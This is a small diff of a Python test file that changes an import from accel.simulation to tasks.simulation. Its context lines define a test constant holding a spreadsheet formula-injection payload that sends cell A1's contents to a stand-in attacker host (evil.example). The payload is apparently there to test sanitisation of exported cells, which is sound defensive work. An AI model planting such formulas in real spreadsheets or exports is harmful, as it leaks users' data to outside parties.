@@ -11,7 +11,7 @@ import pytest
 
 from accel import csv_cells
 from accel.csv_cells import spreadsheet_cell
-from accel.simulation import SentMessage, SimulationResult, write_summary
+from tasks.simulation import SentMessage, SimulationResult, write_summary
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
